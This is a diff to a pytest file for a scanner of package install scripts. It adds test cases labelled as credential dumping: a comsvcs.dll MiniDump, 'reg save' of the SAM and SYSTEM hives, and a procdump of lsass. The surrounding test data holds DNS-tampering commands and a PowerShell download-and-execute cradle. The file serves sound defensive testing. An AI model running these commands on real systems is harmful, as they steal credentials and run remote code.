@@ -285,6 +285,9 @@ def test_shell_file_variables_set_to_a_constant_are_expanded():
     ("networksetup -setdnsservers Wi-Fi 203.0.113.53", "install-script/dns-tamper"),
     ("printf 'nameserver 203.0.113.53' > /etc/resolv.conf", "install-script/dns-tamper"),
     ("powershell -c \"Set-DnsClientServerAddress -InterfaceIndex 4 -ServerAddresses 203.0.113.53\"", "install-script/dns-tamper"),
+    ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", "install-script/credential-dump"),
+    ("reg save HKLM\\SAM %TEMP%\\s && reg save HKLM\\SYSTEM %TEMP%\\y", "install-script/credential-dump"),
+    ("procdump64.exe -accepteula -ma lsass.exe l.dmp", "install-script/credential-dump"),
     ("npm install -g openclaw@latest", "install-script/global-install"),
     ("yarn global add some-cli", "install-script/global-install"),
     ("powershell -NoP -C \"IEX ((New-Object Net.WebClient).DownloadString('https://x.example/s'))\"", "install-script/fetch-and-execute"),
@@ -294,10 +297,10 @@ def test_persistence_global_installs_and_download_cradles(command, rule):
 
 
 @pytest.mark.parametrize("command", ["crontab -l", "grep -q nameserver /etc/resolv.conf && echo online", "cat /etc/resolv.conf",
-                                     "resolvectl status"])
+                                     "resolvectl status", "reg save HKCU\\Software\\MyApp settings.reg"])
 def test_reading_cron_and_dns_settings_is_not_changing_them(command):
     found = rules(artifact({"postinstall": command}))
-    assert "install-script/scheduled-task" not in found and "install-script/dns-tamper" not in found
+    assert not {"install-script/scheduled-task", "install-script/dns-tamper", "install-script/credential-dump"} & found
 
 
 def test_shell_file_that_swaps_wallet_addresses_in_the_clipboard():
